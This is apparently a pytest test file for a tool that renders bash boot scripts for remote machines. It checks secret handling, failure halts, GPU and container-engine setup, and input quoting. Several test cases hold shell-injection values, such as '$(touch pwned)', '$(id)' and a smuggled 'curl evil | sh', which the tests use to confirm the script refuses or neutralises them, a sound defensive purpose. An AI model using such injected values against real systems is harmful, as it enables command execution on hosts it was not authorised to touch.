"""The boot script: one template, a valid bash script, the agent's config inside and no secrets."""

import subprocess
from pathlib import Path

import pytest
from pydantic import SecretStr

from prefect_remote.machine.boot import AgentSource, decode_agent_config, render_boot_script
from prefect_remote.machine.runtime import MachineRuntime
from prefect_remote.providers.base import BootPayload
from prefect_remote.providers.local import LocalProvider
from prefect_remote.spec import MachineSpec
from tests.machine.test_agent import config as agent_config


def test_boot_script_carries_config_but_no_secrets(tmp_path):
    spec = MachineSpec(timeout="1h", keepalive="30s", environ={"PUBLIC": "yes", "TOKEN": SecretStr("very-secret-1")})
    payload = BootPayload(["python", "-m", "app"], env={"MODE": "x"}, secrets={"API_KEY": "very-secret-2"})
    provider = LocalProvider(home=tmp_path)
    config = provider.agent_config(spec, payload, "launch-0123")
    script = render_boot_script(config, python="/opt/my python/bin/python")
    assert "very-secret" not in script
    assert "'/opt/my python/bin/python'" in script  # quoted for bash
    encoded = script.split("PREFECT_REMOTE_AGENT_CONFIG=")[1].split()[0]
    decoded = decode_agent_config(encoded)
    assert decoded["env"] == {**provider.machine_environ(), "PUBLIC": "yes", "MODE": "x"}  # the launcher's settings, then the payload's
    assert decoded["secret_names"] == ["API_KEY", "TOKEN"]
    assert decoded["timeout"] == 3600 and decoded["keepalive"] == 30
    # The machine side is the provider's runtime, made from non-secret options; not the provider itself.
    assert decoded["runtime"] == "prefect_remote.providers.local.runtime:LocalRuntime"
    assert decoded["runtime_options"] == {"home": str(tmp_path)} and decoded["lease_interval"] == 1.0
    path = tmp_path / "boot.sh"
    path.write_text(script)
    assert subprocess.run(["bash", "-n", str(path)]).returncode == 0


def test_payload_validation():
    import pytest

    with pytest.raises(ValueError, match="non-empty list of strings"):
        BootPayload("python app.py")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="non-empty list"):
        BootPayload([])
    with pytest.raises(ValueError, match="both as env and as secrets"):
        BootPayload(["x"], env={"A": "1"}, secrets={"A": "2"})
    with pytest.raises(ValueError, match="'auto' or 'explicit'"):
        BootPayload(["x"], activity="sometimes")  # type: ignore[arg-type]


def test_the_first_line_names_where_the_machine_runs_literally(tmp_path):
    """Whatever a provider's placement text holds, bash prints it as it is, on one line; a stock
    machine's log it goes to is readable by its owner only."""
    from prefect_remote.machine.boot import AgentSource

    placement = "gcp Cloud Run (4 cpu / 16 GiB, us-central1) it's $(touch pwned) `touch pwned`\nsecond line"
    agent = AgentSource("prefect-remote==0.2.0", python="3.11.7")
    env = {"PATH": "/usr/bin:/bin", "PREFECT_REMOTE_ROOT": str(tmp_path), "PREFECT_REMOTE_MACHINE_LOG": str(tmp_path / "log")}
    for script in (render_boot_script({}, python="python3", placement=placement), render_boot_script({}, agent=agent, placement=placement)):
        first = next(line for line in script.splitlines() if line.startswith('phase "booting machine'))
        ran = subprocess.run(
            ["bash", "-c", script[: script.index(first) + len(first)]], cwd=tmp_path, capture_output=True, text=True, env=env
        )
        assert ran.returncode == 0, ran.stderr
        [line] = [line for line in ran.stdout.splitlines() if "booting machine" in line]
        assert "on gcp Cloud Run (4 cpu / 16 GiB, us-central1) it's $(touch pwned) `touch pwned` second line" in line
        assert not (tmp_path / "pwned").exists()
    assert (tmp_path / "log").stat().st_mode & 0o777 == 0o600  # a stock machine's log (its payload's output): the owner's only


def test_a_gpu_machine_logs_its_driver_check_as_a_boot_phase(tmp_path):
    """On an image with NVIDIA's driver (nvidia-smi on PATH; here a stand-in printing what it prints),
    the boot logs the GPUs it sees; on one without, nothing."""
    from prefect_remote.machine.boot import AgentSource

    script = render_boot_script({}, agent=AgentSource("prefect-remote==0.2.0", python="3.11.7"))
    upto_uv = script[: script.index("# 1. Egress")] + "trap - EXIT\n"  # (the GPU check comes before)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    smi = bin_dir / "nvidia-smi"
    smi.write_text("#!/bin/sh\necho 'Tesla T4, 570.195.03'\necho 'Tesla T4, 570.195.03'\n")
    smi.chmod(0o755)
    env = {"PREFECT_REMOTE_ROOT": str(tmp_path / "root"), "PREFECT_REMOTE_MACHINE_LOG": str(tmp_path / "log"), "HOME": str(tmp_path)}
    with_driver = subprocess.run(["bash", "-c", upto_uv], env={**env, "PATH": f"{bin_dir}:/usr/bin:/bin"}, capture_output=True, text=True)
    assert with_driver.returncode == 0, with_driver.stderr
    assert "gpu: Tesla T4, 570.195.03;Tesla T4, 570.195.03" in with_driver.stdout
    without = subprocess.run(["bash", "-c", upto_uv], env={**env, "PATH": "/usr/bin:/bin"}, capture_output=True, text=True)
    assert without.returncode == 0 and "gpu:" not in without.stdout


def test_an_image_without_python3_fails_its_boot_naming_it(tmp_path):
    """The stock boot needs the image's python3 once, to fetch uv: an image without one fails there,
    saying so, and ends the machine (``halt``)."""
    import os
    import shutil

    from prefect_remote.machine.boot import AgentSource

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("mkdir", "mktemp", "date", "tee", "dirname", "uname", "echo", "cat"):  # a shell's tools, no python3
        if found := shutil.which(tool):
            os.symlink(found, bin_dir / tool)
    halted = tmp_path / "halted"
    script = render_boot_script({}, agent=AgentSource("prefect-remote==0.2.0", python="3.11.7"), halt=f"echo > {halted}")
    env = {"PATH": str(bin_dir), "PREFECT_REMOTE_ROOT": str(tmp_path / "root"), "PREFECT_REMOTE_MACHINE_LOG": str(tmp_path / "log")}
    ran = subprocess.run([shutil.which("bash"), "-c", script], env={**env, "HOME": str(tmp_path)}, capture_output=True, text=True)
    assert ran.returncode == 127
    assert "this image has no python3 to fetch uv with; boot an image that has Python 3 (ami, vm_image)" in ran.stdout
    assert "boot failed during 'uv' (exit 127); ending this machine" in ran.stdout and halted.exists()


def test_a_boot_that_cannot_make_its_root_still_ends_its_machine(tmp_path):
    """The boot's first step fails (its root cannot be made: here under a file): the trap already
    holds, so the machine ends (``halt``); a VM would run on, its OS outliving the script."""
    import shutil

    from prefect_remote.machine.boot import AgentSource

    blocker = tmp_path / "a-file"
    blocker.write_text("")
    halted = tmp_path / "halted"
    script = render_boot_script({}, agent=AgentSource("prefect-remote==0.2.0", python="3.11.7"), halt=f"echo > {halted}")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "PREFECT_REMOTE_ROOT": str(blocker / "root")}
    ran = subprocess.run([shutil.which("bash"), "-c", script], env=env, capture_output=True, text=True, timeout=60)
    assert ran.returncode != 0 and halted.exists(), ran.stdout + ran.stderr
    assert "boot failed during 'start'" in ran.stdout and "ending this machine" in ran.stdout


class ScriptedRuntime(MachineRuntime):
    """A machine side that fails where told (``fails``: "metadata", "secrets" or None) and records its
    end in the file ``ended``: what the stock boot's agent runs in the tests below."""

    def __init__(self, fails: str | None, ended: str) -> None:
        self.fails, self.ended = fails, Path(ended)

    @property
    def machine_id(self) -> str:
        if self.fails == "metadata":
            raise ConnectionError("metadata service unreachable")
        return "m-scripted"

    def lease_age(self) -> float:
        return 0.0

    def read_secrets(self) -> dict[str, str]:
        raise PermissionError("AccessDenied: not allowed to read this launch's secret")

    def terminate(self, reason: str, exit_code: int | None) -> None:
        self.ended.write_text(reason)


def stock_boot(
    tmp_path: Path, runtime: str, options: dict, *, image_path: str = "/usr/bin:/bin", **config
) -> tuple[subprocess.CompletedProcess, Path, Path]:
    """Runs the stock boot script on this host with uv and the agent environment already in its root
    (this interpreter), a ``halt`` and a ``backstop`` that leave files, and the image's PATH ``image_path``:
    (run, halted, backstop)."""
    import os
    import shutil
    import sys

    from prefect_remote.machine.boot import UV_VERSION, AgentSource

    agent = AgentSource("prefect-remote==0.2.0", python="3.11.7")
    root = tmp_path / "root"
    (root / f"uv-{UV_VERSION}").mkdir(parents=True)
    (root / f"uv-{UV_VERSION}" / "uv").write_text(f"#!/bin/sh\necho uv {UV_VERSION}\n")
    (root / "agent" / agent.key / "bin").mkdir(parents=True)
    for path in (root / f"uv-{UV_VERSION}" / "uv", root / "agent" / agent.key / "bin" / "python"):
        if path.name == "python":
            path.write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n')
        path.chmod(0o755)
    halted, backstop = tmp_path / "halted", tmp_path / "backstop"
    full = {**agent_config(keepalive=60.0, lease_interval=10.0), "runtime": runtime, "runtime_options": options, **config}
    script = render_boot_script(full, agent=agent, halt=f"echo halted > {halted}", backstop=f"echo +{{minutes}} >> {backstop}")
    env = {
        "PATH": image_path,
        "HOME": str(tmp_path),
        "PREFECT_REMOTE_ROOT": str(root),
        "PREFECT_REMOTE_MACHINE_LOG": str(tmp_path / "log"),
        "PYTHONPATH": str(Path(__file__).parents[2]),  # this test module, whose runtime the agent runs
    }
    ran = subprocess.run([shutil.which("bash"), "-c", script], env=env, capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert not os.environ.get("PREFECT_REMOTE_AGENT_RUNNING")  # (the test host's own environment is untouched)
    return ran, halted, backstop


SCRIPTED = "tests.machine.test_boot:ScriptedRuntime"


@pytest.mark.parametrize(
    ("runtime", "fails", "secret_names", "says"),
    [
        ("tests.machine.no_such_runtime:Runtime", None, [], "ModuleNotFoundError: No module named 'tests.machine.no_such_runtime'"),
        (SCRIPTED, "metadata", [], "ConnectionError: metadata service unreachable"),
        (
            SCRIPTED,
            None,
            ["API_KEY"],
            'secrets could not be read: PermissionError("AccessDenied: not allowed to read this launch\'s secret")',
        ),
    ],
    ids=["runtime-cannot-start", "metadata-read-fails", "secrets-unreadable"],
)
def test_an_agent_that_fails_before_its_main_loop_ends_its_machine(tmp_path, runtime, fails, secret_names, says):
    """Whatever fails before the agent's main loop (its runtime, the metadata read, the secrets), the
    boot's trap still holds: the machine ends (``halt``), and its log says why."""
    ran, halted, _ = stock_boot(tmp_path, runtime, {"fails": fails, "ended": str(tmp_path / "ended")}, secret_names=secret_names)
    assert ran.returncode == 1, ran.stdout + ran.stderr
    assert halted.exists()
    assert says in ran.stdout
    assert "boot failed during 'agent start (the agent exited before its main loop)' (exit 1); ending this machine" in ran.stdout


def test_an_agent_past_its_main_loop_ends_the_machine_itself_and_pushes_the_backstop(tmp_path):
    """An agent that reached its main loop ends the machine itself (the boot does not halt it too);
    the boot scheduled the backstop first (at least the boot's allowance), and the agent pushed it to
    keepalive plus one lease interval, rounded up to the minute (60 s + 10 s: 2)."""
    from prefect_remote.machine.boot import BOOT_BACKSTOP_MINUTES

    ended = tmp_path / "ended"
    ran, halted, backstop = stock_boot(tmp_path, SCRIPTED, {"fails": None, "ended": str(ended)})
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert not halted.exists() and ended.read_text() == "payload finished"
    assert backstop.read_text().splitlines() == [f"+{BOOT_BACKSTOP_MINUTES}", "+2"]
    assert f"backstop: scheduled (echo +{BOOT_BACKSTOP_MINUTES} >> {backstop})" in ran.stdout


def test_a_boot_that_fails_once_the_agent_is_installed_ends_through_the_agent(tmp_path):
    """A boot phase after the agent's install (the engine, for image=) that fails ends the machine
    through the agent, as its owner sees an end: the reason recorded by the provider's runtime (here
    the file ``ended``), the log shipped; then the halt, which ends it if the agent could not. Here
    the image has no engine and no package manager to install one with."""
    image = tmp_path / "image-bin"
    image.mkdir()
    for folder in ("/usr/bin", "/bin"):
        for tool in Path(folder).iterdir():
            if tool.name not in {"podman", "docker", "dnf", "apt-get"} and not (image / tool.name).exists():
                (image / tool.name).symlink_to(tool)
    ended = tmp_path / "ended"
    ran, halted, _ = stock_boot(tmp_path, SCRIPTED, {"fails": None, "ended": str(ended)}, image_path=str(image), image="app:1")
    assert ran.returncode == 127, ran.stdout + ran.stderr
    assert ended.read_text() == "boot failed during 'engine' (exit 127)", ran.stdout + ran.stderr
    assert halted.exists()  # the fallback runs all the same: a halt after an end is harmless
    assert "neither dnf nor apt-get here to install Docker with" in ran.stdout


def engine_phase(tools: Path, commands: tuple[str, ...]) -> tuple[str, str, Path]:
    """The boot's engine phase of an image= machine as a bash script of its own, bash, and ``tools``:
    a folder with this host's ``commands``, for a PATH of stand-ins."""
    import shutil

    from prefect_remote.machine.boot import AgentSource

    script = render_boot_script({"command": ["true"], "image": "app:1"}, agent=AgentSource("prefect-remote==0.2.0", python="3.11.7"))
    engine = 'phase() { echo "$*"; }\nset -euo pipefail\n' + script[script.index("PHASE=engine") : script.index("# 4-5.")]
    tools.mkdir()
    for command in commands:
        (tools / command).symlink_to(shutil.which(command))
    return engine, shutil.which("bash"), tools


def test_a_machine_for_an_image_gets_an_engine_as_a_boot_phase(tmp_path):
    """With image=, the boot uses the machine's Podman (or a Docker whose daemon answers), else installs
    Docker from the OS's packages (here a stand-in dnf, as nvidia-smi above), timed; with neither dnf nor
    apt-get it fails naming what to do. Without image=, no such phase."""
    import shutil

    from prefect_remote.machine.boot import AgentSource

    agent = AgentSource("prefect-remote==0.2.0", python="3.11.7")
    assert "PHASE=engine" not in render_boot_script({"command": ["true"]}, agent=agent)
    engine, bash, tools = engine_phase(tmp_path / "tools", ("seq", "sleep", "true", "chmod", "printf"))
    with_podman = subprocess.run(
        [bash, "-c", engine], env={"PATH": f"{tools}:{Path(shutil.which('podman')).parent}"}, capture_output=True, text=True
    )
    assert with_podman.returncode == 0 and "engine: podman version" in with_podman.stdout, with_podman.stdout + with_podman.stderr
    os_packages = tmp_path / "os"
    os_packages.mkdir()
    (os_packages / "dnf").write_text(
        f'#!{bash}\necho "dnf $*" >> {tmp_path}/dnf.log\n'
        f'printf "#!{bash}\\necho Docker version 25.0.8\\n" > {os_packages}/docker\nchmod +x {os_packages}/docker\n'
    )
    (os_packages / "dnf").chmod(0o755)
    (os_packages / "podman").write_text(f"#!{bash}\necho 'Error: storage is broken' >&2\nexit 125\n")  # here, but not answering
    (os_packages / "podman").chmod(0o755)
    installed = subprocess.run([bash, "-c", engine], env={"PATH": f"{tools}:{os_packages}"}, capture_output=True, text=True)
    assert installed.returncode == 0, installed.stdout + installed.stderr
    assert (tmp_path / "dnf.log").read_text() == "dnf install -y -q docker\n"
    assert (
        "engine: no Podman or Docker that answers on this image (podman: Error: storage is broken); installing Docker" in installed.stdout
    )
    assert "engine: Docker installed and started in 0 s" in installed.stdout and "engine: Docker version 25.0.8" in installed.stdout
    for installed_here in ("dnf", "docker", "podman"):
        (os_packages / installed_here).unlink()
    nothing = subprocess.run([bash, "-c", engine], env={"PATH": f"{tools}:{os_packages}"}, capture_output=True, text=True)
    assert nothing.returncode == 127 and "neither dnf nor apt-get here to install Docker with" in nothing.stdout


def test_an_image_with_docker_and_an_ecs_agent_gets_docker_started_and_the_agent_turned_off(tmp_path):
    """The ECS-optimized AMI (EC2's default for image=): Docker is there but its daemon may not run yet,
    and its ECS agent would register the machine with an ECS cluster. The boot turns the agent off,
    starts Docker and installs nothing (stand-ins for systemctl, docker and dockerd)."""
    engine, bash, image = engine_phase(tmp_path / "image", ("seq", "sleep", "true", "touch", "test"))
    stand_ins = {
        "systemctl": f'echo "systemctl $*" >> {tmp_path}/systemctl.log\n'
        f'case "$1" in cat) [ "$2" = ecs.service ] ;; start) touch {tmp_path}/docker-started ;; esac',
        "docker": f'test -e {tmp_path}/docker-started && echo "Docker version 25.0.16"',  # answers once started
        "dockerd": "exit 1",
        "dnf": f"touch {tmp_path}/dnf-ran",
    }
    for name, body in stand_ins.items():
        (image / name).write_text(f"#!{bash}\n{body}\n")
        (image / name).chmod(0o755)
    ran = subprocess.run([bash, "-c", engine], env={"PATH": str(image)}, capture_output=True, text=True)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert (tmp_path / "systemctl.log").read_text().splitlines() == [
        "systemctl cat ecs.service",
        "systemctl disable --now --no-block ecs.service",
        "systemctl start docker",
    ]
    assert "engine: this image's ECS agent turned off" in ran.stdout and "engine: this image's Docker started in 0 s" in ran.stdout
    assert "installing Docker" not in ran.stdout and not (tmp_path / "dnf-ran").exists()
    assert "engine: Docker version 25.0.16" in ran.stdout


@pytest.mark.parametrize(
    "fields",
    [
        {"requirement": "prefect-remote==$(touch /tmp/owned)"},
        {"requirement": 'prefect-remote"; curl evil | sh; "'},
        {"requirement": "prefect-remote==0.2.0`id`"},
        {"python": "3.11$(id)"},
        {"digest": "$(id)"},
    ],
)
def test_an_agent_source_a_shell_would_expand_is_refused(fields):
    """The requirement and the key derived from it sit inside double quotes in the boot script, and a
    cluster's plan (its secret) carries them to the scheduler that renders its workers' scripts: only
    plain requirements, versions and digests are taken."""
    with pytest.raises(ValueError, match="AgentSource: "):
        AgentSource(**{"requirement": "prefect-remote==0.2.0", "python": "3.11.7", **fields})
    assert (
        AgentSource("prefect-remote[aws,gcp]==0.2.0.dev3+g1a2b", python="3.11.7").key
        == "prefect-remote-aws-gcp==0.2.0.dev3+g1a2b-py3.11.7-agent"
    )
